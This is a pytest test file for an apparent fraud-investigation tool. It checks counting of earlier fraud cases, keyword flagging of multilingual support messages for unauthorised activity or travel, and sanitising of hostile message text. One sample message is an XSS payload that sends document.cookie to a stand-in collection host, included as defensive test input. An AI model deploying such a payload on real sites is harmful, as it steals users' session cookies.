"""Earlier cases, and what was written to support, worked out by hand."""

import json
import unicodedata

import pytest


@pytest.mark.parametrize(("outcome", "guilty"), [("pending", None), (" False_Positive", 0), ("Confirmed_fraud ", 1)])
def test_an_earlier_case_that_ended_in_no_known_word_may_be_fraud(exchange, ask, outcome, guilty):
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=3), outcome=outcome)
    assert ask("earlier_cases").facts.get("earlier.confirmed_fraud") == guilty
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=9), outcome="confirmed_fraud")
    assert ask("earlier_cases").facts["earlier.confirmed_fraud"] == 1 + (guilty or 0)


def test_a_false_positive_of_long_ago_no_longer_clears(exchange, ask):
    for days in (10, 729, 731):
        exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=days), outcome="false_positive")
    facts = {"earlier.confirmed_fraud": 0, "earlier.false_positive": 2, "earlier.total": 3}
    assert ask("earlier_cases").facts == facts
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=900), outcome="pending")
    assert ask("earlier_cases").facts == {"earlier.false_positive": 2, "earlier.total": 4}


def test_earlier_cases_by_outcome(exchange, ask):
    for outcome in ("confirmed_fraud", "false_positive", "false_positive", "inconclusive"):
        exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=40), outcome=outcome)
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.now, outcome="confirmed_fraud")
    assert ask("earlier_cases").facts == {"earlier.confirmed_fraud": 1, "earlier.false_positive": 2, "earlier.total": 4}


@pytest.mark.parametrize(
    ("body", "unauthorised", "travel"),
    [
        ("I did not make this withdrawal! Somebody is in my account, please stop it.", True, False),
        ("I got a mail that my e-mail address was changed. That was not me!", True, False),
        ("Das war nicht ich, bitte sperren Sie das Konto.", True, False),
        ("Me robaron el teléfono.", True, False),
        ("Ce n'était pas moi, on m'a volé mon compte.", True, False),
        ("I will be travelling abroad next week, please do not lock my account.", False, True),
        ("Mein Konto wurde gehackt", True, False),
        ("How long does a bank deposit usually take?", False, False),
        ("I did not receive the code, please help", False, False),
        ("The login from Spain is me", False, False),
        ("It was me", False, False),
        ("I could not make a deposit", False, False),
        ("I have not made any deposit", False, False),
        ("My card was not stolen", False, False),
        ("My card wasn't stolen", False, False),
        ("Was my payment authorised by the bank?", False, False),
        ("The app did not recognise my face", False, False),
        ("It wasn\u2019t me", True, False),
        ("not me", True, False),
        ("I was hacked", True, False),
        ("My account was hacked", True, False),
        ("Someone stole my account", True, False),
        ("Unauthorised withdrawal", True, False),
        ("I don't recognise this login", True, False),
        ("I have not made this withdrawal", True, False),
        ("I never authorised any of it", True, False),
        ("My phone was stolen on the trip, I had to reset everything on a new one.", True, True),
        ("I did not withdraw this money, please help", True, False),
        ("My money is gone! Someone took everything", True, False),
        ("This withdrawal was fraud", True, False),
        ("I never sent this", True, False),
        ("My account has been hijacked", True, False),
        ("I want to report fraud, there is a withdrawal I know nothing about", True, False),
        ("Não fui eu, alguém entrou na minha conta e levou tudo", True, False),
        ("Meu dinheiro sumiu da conta", True, False),
        ("Non sono stato io, mi hanno rubato il conto", True, False),
        ("Это не я, меня взломали, верните деньги", True, False),
        ("Я не выводил эти деньги", True, False),
        ("Ktoś włamał się na moje konto", True, False),
        ("Nie zlecałem tej wypłaty", True, False),
        ("Hesabım çalındı, bu çekimi ben yapmadım", True, False),
        ("Benim degil, hesabim calindi", True, False),
        ("我的账户被盗了", True, False),
        ("我没有提款，请冻结", True, False),
        ("No hice este retiro", True, False),
        ("Je n\u2019ai pas demande\u0301 ce retrait", True, False),
        ("Ich habe diese Auszahlung nicht gemacht", True, False),
        ("Your fraud team blocked my card, please unlock it", False, False),
        ("Why was I suspected of fraud?", False, False),
        ("I did not send the documents yet, sorry", False, False),
        ("Ich habe das Geld noch nicht überwiesen", False, False),
        ("No me robaron, solo pregunto", False, False),
        ("Somebody sent me a dollar I did not ask for. What is this?", False, False),
        ("Der Betrag betrug 100 Euro, wann kommt er an?", False, False),
        ("Quanto tempo demora um saque para a minha conta?", False, False),
        ("Quanto ci mette un prelievo?", False, False),
        ("Сколько времени занимает вывод?", False, False),
        ("Ile trwa wypłata środków?", False, False),
        ("Para çekme işlemi ne kadar sürer?", False, False),
        ("请问提现要多长时间？", False, False),
        ("Сейчас я за границей", False, True),
        ("hello", False, False),
        ("ok \U0001f44d", False, False),
        ("12345?", False, False),
        ("<script>fetch('https://collect.example/?c=' + document.cookie)</script> hello?", False, False),
        ("Dit is niet door mij gedaan, iemand heeft mijn rekening leeggehaald", None, None),
        ("Hello, nu am facut eu aceasta retragere, cineva a intrat in cont", None, None),
        ("Jag har inte gjort det här uttaget", None, None),
        ("Це не мій вивід, гроші зникли з рахунку", None, None),
        ("私はこの出金をしていません", None, None),
        ("لم أقم بهذا السحب", None, None),
    ],
)
def test_support_messages_by_key_words(exchange, ask, body, unauthorised, travel):
    exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction="customer", body=body)
    exchange.add(
        "support_messages", customer_id="C1", at=exchange.ago(days=1), direction="agent", body="hacked? travelling?"
    )
    found = ask("support_messages")
    assert found.facts["support.messages"] == 1
    assert found.facts.get("support.reported_unauthorised") is unauthorised
    assert found.facts.get("support.mentions_travel") is travel
    text = unicodedata.normalize("NFKC", body)
    assert json.loads(found.exhibits[0].content) == [{"at": "2026-05-31T12:00:00Z", "text": text}]


def test_a_message_without_text_is_counted_and_not_quoted_and_may_say_anything(exchange, ask):
    exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction="customer", body=None)
    found = ask("support_messages")
    assert (found.facts, found.exhibits) == ({"support.messages": 1}, ())
    exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction="customer", body="hacked!")
    assert ask("support_messages").facts == {"support.messages": 2, "support.reported_unauthorised": True}


def test_hostile_messages_are_quoted_without_their_tricks(exchange, ask):
    exchange.add(
        "support_messages",
        customer_id="C1",
        at=exchange.ago(days=1),
        direction="customer",
        body="a\x00b\u202ec" + "x" * 9_000,
    )
    (quote,) = json.loads(ask("support_messages").exhibits[0].content)
    assert quote["text"].startswith("abcx")
    assert len(quote["text"]) <= 500
